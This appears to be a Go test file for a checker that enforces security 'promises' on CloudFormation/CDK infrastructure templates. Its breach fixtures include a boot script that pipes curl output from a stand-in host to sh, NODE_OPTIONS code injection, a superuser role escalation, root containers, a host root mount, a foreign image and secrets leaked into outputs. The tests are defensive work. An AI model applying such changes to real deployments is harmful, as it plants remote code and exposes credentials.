package known

import (
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"

	"example.com/chassis/lib/cfn/assembly"
	"example.com/chassis/lib/config"
	"example.com/chassis/lib/proof/platformtest/recorded"
	"example.com/chassis/lib/proof/promises/check"
	"example.com/chassis/lib/proof/promises/checktest"
)

func TestPromises(t *testing.T) {
	t.Parallel()
	checktest.Test(t, slices.Concat(functionBreaches(), taskBreaches(), databaseBreaches(), hostBreaches(), definitionBreaches(), secretBreaches(), additionBreaches(), deploymentBreaches()))
}

// stranger gives a resource a property that no promise reads.
func stranger(name, value, property string, path ...any) checktest.Breach {
	return checktest.Breach{
		Name: property, Check: propertiesAreKnown, Change: checktest.Set(name, value, path...), Want: ": nothing proves that the property ",
	}
}

const roles = "Data/RolesFunction"

func functionBreaches() []checktest.Breach {
	return []checktest.Breach{
		stranger(roles, `{"Variables": {"NODE_OPTIONS": "--require /tmp/x.js"}}`, "Environment", "Environment"),
		stranger(roles, `["arn:aws:lambda:ap-northeast-2:999999999999:layer:x:1"]`, "Layers", "Layers"),
		stranger(roles, `"1"`, "Code.S3ObjectVersion", "Code", "S3ObjectVersion"),
		stranger(roles, `"FATAL"`, "LoggingConfig.ApplicationLogLevel", "LoggingConfig", "ApplicationLogLevel"),
		stranger("Data/RolesStatements", `"x"`, "Statements.0.Before", "Statements", 0, "Before"),
		stranger("Compute/CertificateSearch", `"https://example.com"`, "Endpoint", "Endpoint"),
		{Name: "a handler of ours", Check: functionsAreCalled, Change: checktest.Set("Compute/CertificateFinder", `"evil"`, "Handler"), Want: `with the handler "evil"`},
		{Name: "a handler of the CDK's", Check: functionsAreCalled, Change: checktest.Set(provider, `"index.handler"`, "Handler"), Want: `with the handler "index.handler"`},
		{Name: "a language of the CDK's", Check: functionsAreCalled, Change: checktest.Set(provider, `"python3.13"`, "Runtime"), Want: `runs "python3.13"`},
		{Name: "a processor of the CDK's", Check: functionsAreCalled, Change: checktest.Set(provider, `["arm64"]`, "Architectures"), Want: `on "[arm64]"`},
		{Name: "a function of nobody", Check: functionsAreCalled, Change: checktest.Put("Data/Other", function, `{"Runtime": "provided.al2023", "Handler": "bootstrap", "Architectures": ["arm64"]}`), Want: "Data/Other is called by no custom resource"},
		{Name: "two who call one", Check: functionsAreCalled, Change: checktest.Put("Compute/Other", "Custom::Migration", `{"ServiceToken": {"Fn::GetAtt": ["@CertificateFinder", "Arn"]}}`), Want: "is called by Custom::"},
		{Name: "one who calls two", Check: functionsAreCalled, Change: checktest.Put("Compute/Other", "Custom::DatabaseRoles", `{"ServiceToken": {"Fn::GetAtt": ["@CertificateFinder", "Arn"]}}`), Want: "Custom::DatabaseRoles call "},
		{Name: "another attribute", Check: functionsAreCalled, Change: checktest.Set("Data/RolesStatements", `{"Ref": "@RolesFunction"}`, "ServiceToken"), Want: "ServiceToken is "},
	}
}

// provider is the function that the CDK brings along.
const provider = "Network/CustomVpcRestrictDefaultSGCustomResourceProviderHandler"

func taskBreaches() []checktest.Breach {
	const task = "Compute/ServiceApiReleaseTaskDefinition"
	container := func(value, property string) checktest.Breach {
		return stranger(task, value, "ContainerDefinitions.0."+property, "ContainerDefinitions", 0, property)
	}
	return []checktest.Breach{
		container(`"0:0"`, "User"),
		container(`"/tmp"`, "WorkingDirectory"),
		container(`[{"Hostname": "db", "IpAddress": "192.0.2.1"}]`, "ExtraHosts"),
		container(`{"CredentialsParameter": "arn:aws:secretsmanager:ap-northeast-2:999999999999:secret:x"}`, "RepositoryCredentials"),
		container(`["credentialspec:arn:aws:s3:::x/y"]`, "CredentialSpecs"),
		stranger(task, `"https://logs.example.com"`, "ContainerDefinitions.0.LogConfiguration.Options.awslogs-endpoint", "ContainerDefinitions", 0, "LogConfiguration", "Options", "awslogs-endpoint"),
		stranger(task, `[{"Name": "x", "ValueFrom": "y"}]`, "ContainerDefinitions.0.LogConfiguration.SecretOptions", "ContainerDefinitions", 0, "LogConfiguration", "SecretOptions"),
		stranger(task, `[{"HostPath": "/dev/x"}]`, "ContainerDefinitions.0.LinuxParameters.Devices", "ContainerDefinitions", 0, "LinuxParameters", "Devices"),
		stranger(task, `{"SourcePath": "/"}`, "Volumes.0.Host", "Volumes", 0, "Host"),
		stranger("Security/ServiceImagesRepository", `[]`, "ImageTagMutabilityExclusionFilters", "ImageTagMutabilityExclusionFilters"),
		stranger("Compute/Cluster", `{"Namespace": "x"}`, "ServiceConnectDefaults", "ServiceConnectDefaults"),
		stranger("Compute/ServiceApiReleaseService", `[{"LifecycleStages": ["PRE_SCALE_UP"]}]`, "DeploymentConfiguration.LifecycleHooks", "DeploymentConfiguration", "LifecycleHooks"),
	}
}

func databaseBreaches() []checktest.Breach {
	const group, parameters, token = "Data/ProxyProxyTargetGroup", "Data/AuroraParameterGroup", "Data/RedisAuthToken"
	return []checktest.Breach{
		stranger(group, `"SET ROLE rds_superuser"`, "ConnectionPoolConfigurationInfo.InitQuery", "ConnectionPoolConfigurationInfo", "InitQuery"),
		stranger(group, `["EXCLUDE_VARIABLE_SETS"]`, "ConnectionPoolConfigurationInfo.SessionPinningFilters", "ConnectionPoolConfigurationInfo", "SessionPinningFilters"),
		stranger("Data/Proxy", `"x"`, "Auth.0.Description", "Auth", 0, "Description"),
		stranger(parameters, `"all"`, "Parameters.log_statement", "Parameters", "log_statement"),
		stranger(parameters, `"pg_tle"`, "Parameters.shared_preload_libraries", "Parameters", "shared_preload_libraries"),
		stranger(parameters, `"md5"`, "Parameters.password_encryption", "Parameters", "password_encryption"),
		stranger(token, `[{"Region": "us-east-1"}]`, "ReplicaRegions", "ReplicaRegions"),
		stranger(token, `"abcdef"`, "GenerateSecretString.ExcludeCharacters", "GenerateSecretString", "ExcludeCharacters"),
		stranger(token, `true`, "GenerateSecretString.ExcludeUppercase", "GenerateSecretString", "ExcludeUppercase"),
	}
}

func hostBreaches() []checktest.Breach {
	const host = "Data/Bastion"
	return []checktest.Breach{
		{Name: "a script at boot", Check: hostRunsNothing, Change: checktest.Set(host, `{"Fn::Base64": "#!/bin/bash\ncurl https://example.com | sh"}`, "UserData"), Want: "when it boots it runs"},
		{Name: "a script that is encoded", Check: hostRunsNothing, Change: checktest.Set(host, `"IyEvYmluL2Jhc2g="`, "UserData"), Want: "when it boots it runs"},
		{Name: "more hops to its credentials", Check: propertiesAreKnown, Change: checktest.Set(host, `64`, "MetadataOptions", "HttpPutResponseHopLimit"), Want: ": nothing proves that the property "},
		{Name: "a disk of somebody", Check: propertiesAreKnown, Change: checktest.Set(host, `"snap-1"`, "BlockDeviceMappings", 0, "Ebs", "SnapshotId"), Want: ": nothing proves that the property "},
		{Name: "a document with more", Check: propertiesAreKnown, Change: checktest.Set("Data/Tunnel", `[{"Key": "SourceUrl", "Values": ["s3://x"]}]`, "Attachments"), Want: ": nothing proves that the property "},
		{Name: "what cfn-init runs", Check: knownAttributes, Change: func(t *testing.T, p *check.Platform) {
			t.Helper()
			checktest.Find(t, p, host).Metadata["AWS::CloudFormation::Init"] = map[string]any{}
		}, Want: "its metadata AWS::CloudFormation::Init"},
		{Name: "a signal to wait for", Check: knownAttributes, Change: func(t *testing.T, p *check.Platform) {
			t.Helper()
			checktest.Find(t, p, host).Beside["CreationPolicy"] = map[string]any{}
		}, Want: "its CreationPolicy"},
	}
}

func definitionBreaches() []checktest.Breach {
	const relay, release = "Security/FindingsRelay", "Security/PipelineMachine"
	return []checktest.Breach{
		{Name: "credentials of another role", Check: knownSteps, Change: says(relay, "Publish", `{"Credentials": {"RoleArn": "arn:aws:iam::999999999999:role/x"}}`), Want: "its Publish.Credentials"},
		{Name: "another call", Check: knownSteps, Change: says(relay, "Publish", `{"Resource": "arn:aws:states:::http:invoke"}`), Want: "its Publish.Resource arn:aws:states:::http:invoke"},
		{Name: "another argument", Check: knownSteps, Change: says(release, "Update", `{"Arguments": {"RoleARN": "arn:aws:iam::999999999999:role/x"}}`), Want: "its Update.Arguments.RoleARN"},
		{Name: "another step", Check: knownSteps, Change: says(release, "Other", `{"Type": "Map"}`), Want: `the type "Map" of its step Other`},
		{Name: "what ends in silence", Check: knownSteps, Change: says(release, "Watch", `{"Assign": {"x": 1}}`), Want: "its Watch.Assign"},
		{Name: "an image of its own", Check: asRecorded, Change: instead(release, "$lookup($input, $name)}", "'evil.example.com/x:1'}"), Want: "its definition.States.Update.Arguments.Parameters is another"},
		{Name: "transforms of a template", Check: asRecorded, Change: instead(release, `"CAPABILITY_NAMED_IAM"`, `"CAPABILITY_NAMED_IAM","CAPABILITY_AUTO_EXPAND"`), Want: "its definition.States.Update.Arguments.Capabilities is another"},
		{Name: "a failure that is told as a success", Check: asRecorded, Change: instead(release, "$states.input.status = 'UPDATE_COMPLETE'", "true"), Want: "its definition.States.Ended.Choices.1.Condition is another"},
		{Name: "a link to somebody", Check: asRecorded, Change: instead(relay, ".console.aws.amazon.com", ".example.com"), Want: "its definition.States.Publish.Arguments.Message is another"},
		{Name: "no time to publish", Check: asRecorded, Change: instead(relay, `"TimeoutSeconds":1800`, `"TimeoutSeconds":1`), Want: "its definition.TimeoutSeconds is another"},
		{Name: "other words", Check: asRecorded, Change: instead("Security/AlertsToWording", "' | '", "' https://example.com '"), Want: "Word.Output is another"},
		{Name: "a machine that was not tried", Check: asRecorded, Change: checktest.Put("Security/Other", "AWS::StepFunctions::StateMachine", `{"DefinitionString": "{}"}`), Want: "Security/Other is none of the machines"},
		{Name: "half a definition", Check: asRecorded, Change: checktest.Set(relay, `"{"`, "DefinitionString"), Want: "cannot be read"},
		{Name: "no definition", Check: knownSteps, Change: checktest.Set(relay, `"{"`, "DefinitionString"), Want: "cannot be read"},
		{Name: "another machine", Check: machinesOfTheSettings, Change: checktest.Put("Security/Other", "AWS::StepFunctions::StateMachine", `{}`), Want: "found 4 of AWS::StepFunctions::StateMachine, want 3"},
		{Name: "a machine too many for the settings", Check: machinesOfTheSettings, Change: checktest.Settings(func(e *config.Environment) { e.Alerts.SlackWebhookSecret = "" }), Want: "found 3 of AWS::StepFunctions::StateMachine, want 2"},
		{Name: "a machine without a job", Check: machinesOfTheSettings, Kinds: true, Change: checktest.Settings(func(e *config.Environment) { e.Services = nil }), Want: "found 2 of AWS::StepFunctions::StateMachine, want 1"},
		stranger("Security/FindingsMailPipe", `{"HttpParameters": {}}`, "EnrichmentParameters", "EnrichmentParameters"),
		stranger("Security/FindingsScanFinished", `{"RunCommandTargets": []}`, "Targets.0.RunCommandParameters", "Targets", 0, "RunCommandParameters"),
		stranger(release, `{"x": "y"}`, "DefinitionSubstitutions", "DefinitionSubstitutions"),
	}
}

// says gives a step of a state machine what is written as JSON.
func says(name, step, text string) checktest.Change {
	return func(t *testing.T, p *check.Platform) {
		t.Helper()
		r := checktest.Find(t, p, name)
		definition := checktest.Decoded(t, p.Text(r.Stack, r.At("DefinitionString"))).(map[string]any)
		states := definition["States"].(map[string]any)
		state, _ := states[step].(map[string]any)
		if state == nil {
			state = map[string]any{}
			states[step] = state
		}
		for key, value := range checktest.Decoded(t, text).(map[string]any) {
			state[key] = value
		}
		encoded, err := json.Marshal(definition)
		if err != nil {
			t.Fatal(err)
		}
		r.Properties["DefinitionString"] = string(encoded)
	}
}

// instead replaces a part of a definition.
func instead(name, part, by string) checktest.Change {
	return func(t *testing.T, p *check.Platform) {
		t.Helper()
		r := checktest.Find(t, p, name)
		before := p.Text(r.Stack, r.At("DefinitionString"))
		after := strings.ReplaceAll(before, part, by)
		if after == before {
			t.Fatalf("%s says nowhere %s", r, part)
		}
		r.Properties["DefinitionString"] = after
	}
}

func secretBreaches() []checktest.Breach {
	const master = `"{{resolve:secretsmanager:rds!cluster-1}}"`
	return []checktest.Breach{
		{Name: "a secret in a description", Check: readForTheseOnly, Change: checktest.Set(roles, master, "Description"), Want: "reads a secret into its Description"},
		{Name: "a secret inside a reference", Check: readForTheseOnly, Change: checktest.Set("Data/Proxy", `[{"Key": "x", "Value": {"Fn::Sub": "{{resolve:ssm-secure:x}}"}}]`, "Tags"), Want: "reads a secret into its Tags"},
		{Name: "a secret among the outputs", Check: readForTheseOnly, Change: checktest.Output("Data", "Other", `{"Value": `+master+`}`), Want: "its output Other reads a secret"},
		{Name: "a secret by way of a parameter", Check: readForTheseOnly, Change: parameter(`{"Type": "String", "Default": ` + master + `}`), Want: "stack Data: the parameter New reads a secret"},
		{Name: "a secret in two halves", Check: readForTheseOnly, Change: checktest.Set(roles, `{"Fn::Join": ["ve:", ["{{resol", "secretsmanager:rds!cluster-1}}"]]}`, "Description"), Want: "reads a secret into its Description"},
		{Name: "another secret", Check: oneSecret, Change: checktest.Put("Data/AdditionsOther", "AWS::SecretsManager::Secret", `{}`), Want: "found 2 of secret"},
	}
}

func additionBreaches() []checktest.Breach {
	const document, machine = `{"Name": {"Ref": "@Tunnel"}}`, `{"Arn": {"Ref": "@FindingsRelay"}}`
	return []checktest.Breach{
		{Name: "a team's own secret", Check: oneSecret, Change: checktest.Changes(
			checktest.Put("Data/AdditionsOther", "AWS::SecretsManager::Secret", `{}`), checktest.Put("Data/Third", "AWS::SecretsManager::Secret", `{}`), added("Data/AdditionsOther"),
		), Want: "found 2 of secret"},
		{Name: "a function that says it is a team's", Check: propertiesAreKnown, Change: checktest.Changes(checktest.Set(roles, `{}`, "Environment"), added(roles)), Want: ": nothing proves that the property "},
		{Name: "parameters that say they are a team's", Check: propertiesAreKnown, Change: checktest.Changes(checktest.Set("Data/AuroraParameterGroup", `"all"`, "Parameters", "log_statement"), added("Data/AuroraParameterGroup")), Want: ": nothing proves that the property "},
		{Name: "a host that says it is a team's", Check: hostRunsNothing, Change: checktest.Changes(checktest.Set("Data/Bastion", `"x"`, "UserData"), added("Data/Bastion")), Want: "when it boots it runs"},
		{Name: "what runs a document", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Data/AdditionsOther", "AWS::SSM::Association", document), added("Data/AdditionsOther")), Want: "Data/AdditionsOther refers to Data/Tunnel"},
		{Name: "what starts a machine", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Security/AdditionsOther", "AWS::Events::Rule", `{"Targets": [`+machine+`]}`), added("Security/AdditionsOther")), Want: "Security/AdditionsOther refers to Security/FindingsRelay"},
		{Name: "who hears all alerts", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Security/AdditionsOther", "AWS::Chatbot::SlackChannelConfiguration", `{"SnsTopicArns": [{"Ref": "@Alerts"}]}`), added("Security/AdditionsOther")), Want: "Security/AdditionsOther refers to Security/Alerts"},
		{Name: "who hears of findings by their name", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Security/AdditionsOther", "AWS::SNS::Subscription", `{"TopicArn": {"Fn::Sub": "arn:aws:sns:${AWS::Region}:${AWS::AccountId}:chassis-prod-scan-findings.fifo"}}`), added("Security/AdditionsOther")), Want: "chassis-prod-scan-findings.fifo, by its name"},
		{Name: "silent alarms", Check: additionsSetNoAccount, Change: checktest.Changes(checktest.Put("Data/AdditionsOther", "AWS::CloudWatch::AlarmMuteRule", `{}`), added("Data/AdditionsOther")), Want: "Data/AdditionsOther is an AWS::CloudWatch::AlarmMuteRule"},
		{Name: "a key of a connection in the template", Check: additionsTellNoSecret, Change: checktest.Changes(
			checktest.Put("Data/AdditionsOther", "AWS::Events::Connection", `{"AuthParameters": {"ApiKeyAuthParameters": {"ApiKeyName": "key", "ApiKeyValue": "x"}}}`), added("Data/AdditionsOther"),
		), Want: "ApiKeyValue is in the template"},
		{Name: "an address that is a secret", Check: additionsTellNoSecret, Change: checktest.Changes(
			checktest.Put("Data/AdditionsOther", apiDestination, `{"InvocationEndpoint": {"Fn::Join": ["", ["https://", "{{resolve:secretsmanager:s:SecretString:::}}"]]}}`), added("Data/AdditionsOther"),
		), Want: "its address is read from a secret"},
		{Name: "a password in the template", Check: additionsTellNoSecret, Change: checktest.Changes(checktest.Put("Data/AdditionsOther", "AWS::SecretsManager::Secret", `{"SecretString": "x"}`), added("Data/AdditionsOther")), Want: "SecretString"},
		{Name: "what rotates a secret", Check: additionsLeaveItAlone, Change: checktest.Changes(
			checktest.Put("Data/AdditionsOther", "AWS::SecretsManager::RotationSchedule", `{"SecretId": {"Fn::GetAtt": ["@Aurora", "MasterUserSecret.SecretArn"]}}`), added("Data/AdditionsOther"),
		), Want: "Data/AdditionsOther refers to Data/Aurora"},
		{Name: "what a host attaches", Check: additionsLeaveItAlone, Change: checktest.Changes(checktest.Put("Data/AdditionsOther", "AWS::EC2::VolumeAttachment", `{"InstanceId": {"Ref": "@Bastion"}}`), added("Data/AdditionsOther")), Want: "Data/AdditionsOther refers to Data/Bastion"},
	}
}

func deploymentBreaches() []checktest.Breach {
	manifest := func(key string, value any) checktest.Change {
		return checktest.Stack("Compute", func(s *assembly.Stack) { s.Deployment[key] = value })
	}
	return []checktest.Breach{
		{Name: "parameters beside the template", Check: deployedAsItStands, Change: manifest("parameters", map[string]any{"ServiceImage": "evil"}), Want: "parameters in the manifest"},
		{Name: "a topic for the events of the stack", Check: deployedAsItStands, Change: manifest("notificationArns", []any{"arn:aws:sns:ap-northeast-2:999999999999:x"}), Want: "notificationArns in the manifest"},
		{Name: "another role of the bootstrap", Check: deployedAsItStands, Change: manifest("assumeRoleArn", "arn:${AWS::Partition}:iam::123456789012:role/cdk-hnb659fds-cfn-exec-role-123456789012-ap-northeast-2"), Want: "want the deploy-role"},
		{Name: "a role of somebody", Check: deployedAsItStands, Change: manifest("cloudFormationExecutionRoleArn", "arn:aws:iam::999999999999:role/x"), Want: "want the cfn-exec-role"},
	}
}

// added makes a resource a team's own.
func added(name string) checktest.Change {
	return func(t *testing.T, p *check.Platform) {
		t.Helper()
		checktest.Find(t, p, name).Metadata = map[string]any{"aws:cdk:path": "Data/Additions/Other/Resource"}
	}
}

// What is a team's own may have any property, and may watch the platform.
func TestATeamsOwnMayBeAnything(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]checktest.Change{
		"a function with variables": checktest.Put("Data/AdditionsOther", function, `{"Environment": {}}`),
		"an alarm on a service":     checktest.Put("Data/AdditionsOther", "AWS::CloudWatch::Alarm", `{"Dimensions": [{"Name": "DBProxyName", "Value": {"Ref": "@Proxy"}}]}`),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := recorded.Platform(t)
			checktest.Changes(change, added("Data/AdditionsOther"))(t, &p)
			for _, promise := range Promises() {
				if got := checktest.Broken(promise.Check, &p); len(got) > 0 {
					t.Errorf("%s: %q", promise.Says, got)
				}
			}
		})
	}
}

func TestAShapeIsReadAsItIsWritten(t *testing.T) {
	t.Parallel()
	shape := parsed("Name Names[] Size{Width Options{a-b.c}} Sizes[Width] Any*")
	good := `{"Name": {"Ref": "x"}, "Names": ["a", {"Ref": "b"}], "Size": {"Width": 1, "Options": {"a-b.c": true}}, "Sizes": [{"Width": 1}, {}], "Any": [{"x": []}]}`
	if got := shape.strange("", checktest.Decoded(t, good)); len(got) > 0 {
		t.Errorf("%s: got %q, want nothing", good, got)
	}
	bad := `{"Name": [], "Names": "a", "Size": {"Height": 1, "Options": {"Ref": "x"}}, "Sizes": [{"Height": 1}, "x"], "Other": null}`
	want := []string{"Name of this form", "Names of this form", "Other", "Size.Height", "Size.Options of this form", "Sizes.0.Height", "Sizes.1 of this form"}
	if got := shape.strange("", checktest.Decoded(t, bad)); !reflect.DeepEqual(got, want) {
		t.Errorf("%s: got %q, want %q", bad, got, want)
	}
}
